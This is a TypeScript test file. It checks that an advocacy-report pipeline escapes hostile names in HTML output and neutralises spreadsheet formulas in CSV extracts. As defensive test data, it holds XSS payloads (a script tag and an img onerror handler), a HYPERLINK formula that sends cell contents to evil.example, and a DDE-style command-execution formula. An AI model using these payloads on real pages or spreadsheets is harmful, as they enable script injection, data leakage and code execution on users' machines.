/**
 * Text from exports is written by strangers. A roster, a goal and a content item whose
 * names hold markup and spreadsheet formulas go through ingest, build and report: the
 * HTML shows them as text (escaped, and no script runs but the report's own, each
 * pinned by its hash in the Content-Security-Policy), and the CSV extracts neutralise
 * every cell a spreadsheet would run as a formula.
 */
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { listInputFiles } from '../../pipelines/ingest.ts';
import { memoryLogger } from '../../pipelines/log.ts';
import { ingestBuildReport, type RunSummary } from '../../pipelines/run.ts';
import { withSession } from '../../pipelines/session.ts';
import { tempFolder, testConfig } from '../helpers/warehouse.ts';

const EXPORTS = join(import.meta.dirname, '../../fixtures/exports');

const SCRIPT = '<script>alert(1)</script>';
const IMAGE = '"><img src=x onerror=alert(2)>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const PLUS = "+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)';

function csvCell(value: string): string {
  return /[",\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** The fixture program with hostile names: the roster's first four ambassadors, a goal and a content title. */
function hostileInbox(dir: string): void {
  for (const file of [
    'program/aliases.csv',
    'program/share_log.csv',
    'web/touchpoints.csv',
    'web/outcomes.csv',
    'ga4/traffic_acquisition.csv',
    'program/trainings.csv',
    'program/costs.csv',
  ]) {
    mkdirSync(join(dir, file, '..'), { recursive: true });
    cpSync(join(EXPORTS, file), join(dir, file));
  }
  const names = new Map([
    ['A001', SCRIPT],
    ['A002', FORMULA],
    ['A003', PLUS],
    ['A004', AT],
  ]);
  const roster = readFileSync(join(EXPORTS, 'program/ambassadors.csv'), 'utf8')
    .split('\n')
    .map((line) => {
      const id = line.slice(0, 4);
      if (!names.has(id)) return line;
      const cells = Papa.parse<string[]>(line).data[0]!;
      cells[1] = names.get(id)!;
      cells[12] = IMAGE;
      return cells.map(csvCell).join(',');
    })
    .join('\n');
  writeFileSync(join(dir, 'program/ambassadors.csv'), roster);
  const goals = readFileSync(join(EXPORTS, 'program/goals.csv'), 'utf8').replace('Rækkevidde H2', csvCell(`${SCRIPT} ${FORMULA}`));
  writeFileSync(join(dir, 'program/goals.csv'), goals);
  const content = readFileSync(join(EXPORTS, 'program/content.csv'), 'utf8').replace('Varmepumper forklaret', csvCell(IMAGE));
  writeFileSync(join(dir, 'program/content.csv'), content);
}

function filesIn(dir: string, extension: string): string[] {
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((entry) => entry.endsWith(extension))
    .map((entry) => join(dir, entry));
}

describe('hostile text from exports', () => {
  const root = tempFolder('advocacy-hostile-');
  const config = testConfig({}, root);
  let summary: RunSummary;
  let latest: string;

  beforeAll(async () => {
    const inbox = join(root, 'exports');
    hostileInbox(inbox);
    summary = await withSession(config, 'run', memoryLogger(), (session) => ingestBuildReport(session, listInputFiles([inbox])));
    latest = join(config.paths.out, 'latest');
  }, 180_000);

  it('loads the hostile text as it is', () => {
    expect(summary.filesFailed).toBe(0);
    expect(summary.checkProblems).toEqual([]);
    expect(existsSync(latest)).toBe(true);
  });

  it('shows it in the HTML as text: escaped, never as markup, and no script runs that the report did not pin', () => {
    const pages = filesIn(latest, '.html');
    expect(pages.length).toBeGreaterThan(0);
    let shownEscaped = 0;
    for (const page of pages) {
      const html = readFileSync(page, 'utf8');
      expect(html.includes(SCRIPT), `${page} holds the <script> name as markup`).toBe(false);
      expect(html.includes('<img src=x'), `${page} holds the <img> headline as markup`).toBe(false);
      // Outside the report's own scripts, no element carries an event handler.
      // (attribute values and text blanked first: escaped text there is text).
      const markup = html
        .replace(/<script[^>]*>[\s\S]*?<\/script>/g, '')
        .replace(/"[^"]*"/g, '""')
        .replace(/>[^<]*</g, '><');
      expect(/<[a-z][^<>]*\son[a-z]+\s*=/i.exec(markup)?.[0] ?? null, page).toBeNull();
      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1]?.replaceAll('&#39;', "'");
      expect(policy, page).toMatch(/default-src 'none'/);
      const scriptSources = /script-src ([^;]*)/.exec(policy ?? '')?.[1] ?? "'none'";
      expect(scriptSources).not.toMatch(/unsafe-inline|unsafe-eval|https?:/);
      // Every inline script is one the report wrote, allowed by its hash; none carries a src.
      for (const match of html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
        expect(match[1]).not.toMatch(/\ssrc\s*=/);
        if (/type="application\/json"/.test(match[1]!)) {
          // A data block is not run; it must end where it was meant to (no `</script>` inside a value closed it early).
          expect(() => JSON.parse(match[2]!), `${page}: a data block that is not whole JSON`).not.toThrow();
          continue;
        }
        const hash = createHash('sha256').update(match[2]!, 'utf8').digest('base64');
        expect(scriptSources, `${page}: an inline script not pinned by the policy`).toContain(`'sha256-${hash}'`);
      }
      if (html.includes('&lt;script&gt;alert(1)&lt;/script&gt;') || html.includes('\\u003cscript\\u003ealert(1)')) shownEscaped += 1;
    }
    // The names are on the pages, as text.
    expect(shownEscaped).toBeGreaterThan(0);
  });

  it('neutralises spreadsheet formulas in every CSV extract', () => {
    const extracts = filesIn(latest, '.csv');
    expect(extracts.length).toBeGreaterThan(5);
    const risky: string[] = [];
    let neutralised = 0;
    for (const file of extracts) {
      const rows = Papa.parse<string[]>(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
      for (const cell of rows.flat()) {
        if (cell.startsWith(`'${FORMULA}`) || cell.startsWith(`'${PLUS}`) || cell.startsWith(`'${AT}`)) neutralised += 1;
        // A negative number is a number; anything else a spreadsheet would evaluate is not allowed.
        if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell))) risky.push(`${file}: ${cell.slice(0, 60)}`);
      }
    }
    expect(risky).toEqual([]);
    expect(neutralised).toBeGreaterThan(0);
  });
});
